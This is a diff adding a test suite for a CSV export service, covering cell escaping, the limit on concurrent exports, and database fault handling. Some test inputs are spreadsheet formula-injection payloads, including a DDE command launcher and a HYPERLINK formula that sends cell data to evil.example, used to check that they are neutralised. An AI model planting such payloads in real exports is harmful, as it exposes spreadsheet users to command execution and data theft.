@@ -1,0 +1,222 @@
+import { once } from 'node:events'
+import { get, type IncomingMessage } from 'node:http'
+import { buffer } from 'node:stream/consumers'
+import { setImmediate as turn } from 'node:timers/promises'
+import fc from 'fast-check'
+import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
+import { listAcademyAudit } from '../../api/contract/audit.ts'
+import { trainingCsvPath } from '../../api/contract/training-report.ts'
+import { csvExports, type ExportCsv } from '../../api/database/csv-export.ts'
+import { DatabaseUnavailable } from '../../api/database/database.ts'
+import { createTestDatabase } from '../database.ts'
+import { TcpProxy } from '../faults/tcp-proxy.ts'
+import { propertyRuns } from '../property-runs.ts'
+import { until } from '../until.ts'
+import { readCsv } from './read-csv.ts'
+import { createTestApp, type TestApp, type Visitor } from './test-app.ts'
+
+const proxy = new TcpProxy()
+let app: TestApp
+let admin: Visitor
+let origin: string
+let exportCsv: ExportCsv
+
+beforeAll(async () => {
+  const database = await createTestDatabase()
+  const url = new URL(database.url)
+  proxy.target = Number(url.port)
+  await proxy.listen()
+  url.port = String(proxy.port)
+  url.hostname = '127.0.0.1'
+  app = await createTestApp({ databaseUrl: url.href }, database)
+  origin = await app.app.listen({ host: '127.0.0.1', port: 0 })
+  admin = await app.signIn('academy-admin')
+  exportCsv = csvExports(database.url)
+  // 12 MB: more than all buffers on the way can take.
+  await app.client.query(
+    `insert into account (area, email, first_name, last_name, status)
+     select 'employee', n || '@cro.example', repeat('😀', 2500), n::text, 'active' from generate_series(1, 1200) as n`,
+  )
+})
+afterEach(() => proxy.change('pass'))
+afterAll(async () => {
+  await app[Symbol.asyncDispose]()
+  await proxy.close()
+})
+
+/** The rows of a file that is read to its end. It begins with a byte order mark, which readers of texts swallow. */
+async function rowsOf(file: NodeJS.ReadableStream): Promise<string[][]> {
+  const content = (await buffer(file)).toString()
+  expect(content[0]).toBe('\uFEFF')
+  return readCsv(content.slice(1))
+}
+const read = async (statement: string, ...values: string[]) => rowsOf(await exportCsv(statement, values))
+
+/** A response of which nothing but its beginning is read. */
+async function begin(): Promise<IncomingMessage> {
+  const request = get(`${origin}${trainingCsvPath}`, { headers: { cookie: admin.cookie } })
+  const [response]: IncomingMessage[] = await once(request, 'response')
+  if (!response) throw new Error('no response')
+  await once(response, 'readable')
+  return response
+}
+
+const connections = async () => {
+  const { rows } = await app.client.query<{ pid: number }>(
+    `select pid from pg_stat_activity where datname = current_database() and query like 'copy (%'`,
+  )
+  return rows.map(({ pid }) => pid)
+}
+const allFree = () => until('the connections to end', async () => (await connections()).length === 0)
+const errors = () => app.lines.filter(line => JSON.parse(line).level >= 50)
+
+test('rows are written with their titles, in their order, and read back as they are', async () => {
+  const awkward = ['a "b" c', 'x, y', 'one\ntwo\r\nthree', 'Zoë 😀', '', ' kept ']
+  expect(
+    await read(
+      `select export_value(1) as "First, ""and"" last", number, null as "none"
+       from generate_series(1, 2) as number order by number desc`,
+      awkward.join('|'),
+    ),
+  ).toEqual([
+    ['First, "and" last', 'number', 'none'],
+    [awkward.join('|'), '2', ''],
+    [awkward.join('|'), '1', ''],
+  ])
+  expect(await read('select 1 as "nobody" where false')).toEqual([['nobody']])
+})
+
+const cell = async (value: string) => (await read('select csv_safe(export_value(1)) as cell', value))[1]?.[0]
+
+test.each([
+  '=1+1',
+  '+49 30 1234',
+  '-2',
+  '@x',
+  '\ttab',
+  '\rreturn',
+  '\nline',
+  '  =1+1',
+  '\u00a0=1+1',
+  '＝1+1',
+  '＠SUM(1)',
+  `=cmd|' /C calc'!A0`,
+  '=HYPERLINK("http://evil.example?"&A1,"x")',
+])('%j stands in its cell as text', async value => {
+  expect(await cell(value)).toBe(`'${value}`)
+})
+
+test.each([
+  ['\t=1+1', `'\t'=1+1`],
+  ['Ada;=1+1', `'Ada;'=1+1`],
+  ['Ada\n\t-1', `'Ada\n'\t'-1`],
+  ['Ada\r@x', `'Ada\r'@x`],
+])('%j is text for a program that takes other signs for the end of a cell', async (value, written) => {
+  expect(await cell(value)).toBe(written)
+})
+
+test.each([
+  'Anne-Marie',
+  'O’Brien',
+  "D'Arcy",
+  '李小龍',
+  'أحمد',
+  'Müller + Söhne',
+  'a@cro.example',
+  'n+tag@cro.example',
+  'Smith & Sons; Ltd',
+  'x = y',
+  "'quoted'",
+  '1',
+  '  led by spaces',
+  '😀',
+])('%j is left as it is', async value => {
+  expect(await cell(value)).toBe(value)
+})
+
+test('no text begins a formula, and what was written is found again', { tags: ['soak'] }, async () => {
+  const signs = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', 'a', 'é', '😀', '＝')
+  await fc.assert(
+    fc.asyncProperty(
+      fc.array(fc.string({ unit: signs, minLength: 1, maxLength: 8 }), { maxLength: 3 }),
+      async texts => {
+        const columns = texts.map((_, index) => `csv_safe(export_value(${index + 1})) as "${index}"`)
+        const [, row = []] = await read(`select ${['1 as "first"', ...columns].join(', ')}`, ...texts)
+        for (const [index, value] of texts.entries()) {
+          const written = row[index + 1] ?? ''
+          expect(written).not.toMatch(/(^|[;\t\r\n])\s*[-=+@＝]|^[\t\r\n]/)
+          expect(written.replaceAll(`'`, '')).toBe(value.replaceAll(`'`, ''))
+        }
+      },
+    ),
+    { numRuns: propertyRuns(100, 3000) },
+  )
+})
+
+test('two are written at once; a third is told when to come back, and nothing of it is recorded', async () => {
+  const recorded = async () => (await app.call(listAcademyAudit, { as: admin })).body
+  const [first, second] = [await begin(), await begin()]
+  const before = await recorded()
+  const third = await app.app.inject({ url: trainingCsvPath, headers: { cookie: admin.cookie } })
+  expect([third.statusCode, third.json().code, third.headers['retry-after']]).toEqual([503, 'busy', '10'])
+  expect(await recorded()).toEqual(before)
+  expect(await rowsOf(first)).toHaveLength(1201)
+  // The one that is done has made room.
+  const again = await begin()
+  expect(await rowsOf(second)).toHaveLength(1201)
+  expect(await rowsOf(again)).toHaveLength(1201)
+  await allFree()
+})
+
+test('readers who go away give back their connection and their place', async () => {
+  for (const response of [await begin(), await begin()]) response.destroy()
+  await allFree()
+  expect(await rowsOf(await begin())).toHaveLength(1201)
+  for (let round = 0; round < 10; round += 1) {
+    const files = [1, 2].map(() => exportCsv(`select repeat('x', 1000) from generate_series(1, 20000)`, []))
+    for (const file of await Promise.all(files)) file.destroy()
+    await turn()
+  }
+  await allFree()
+  expect(errors()).toEqual([])
+})
+
+test.each(['ends the connection', 'cannot be reached any more'])(
+  'when the database %s midway, the file breaks off rather than seem whole',
+  async how => {
+    const response = await begin()
+    if (how === 'ends the connection') {
+      for (const pid of await connections()) await app.client.query('select pg_terminate_backend($1)', [pid])
+    } else await proxy.change('refuse')
+    await expect(response.toArray()).rejects.toThrow('aborted')
+    await proxy.change('pass')
+    await allFree()
+    expect(await rowsOf(await begin())).toHaveLength(1201)
+    expect(errors()).toEqual([])
+  },
+)
+
+test('a database that does not answer takes no place for good', async () => {
+  const silent = new URL(app.databaseUrl)
+  silent.port = String(proxy.port)
+  silent.hostname = '127.0.0.1'
+  const exportThere = csvExports(silent.href)
+  await proxy.change('stall')
+  const lost = () => expect(exportThere('select 1', [])).rejects.toThrow(DatabaseUnavailable)
+  await Promise.all([lost(), lost()])
+  await turn()
+  await proxy.change('pass')
+  expect(await rowsOf(await exportThere('select 1 as one', []))).toEqual([['one'], ['1']])
+})
+
+test('a statement that fails is refused before anything of the file is sent', async () => {
+  for (const [statement, reason, ...values] of [
+    ['select 1/0', 'division by zero'],
+    ['select export_value(1)', 'invalid byte sequence', 'a\0'],
+    ['select none', 'does not exist'],
+  ] as const) {
+    await expect(exportCsv(statement, values)).rejects.toThrow(reason)
+    await turn()
+  }
+  expect(await read('select 1 as one')).toEqual([['one'], ['1']])
+})
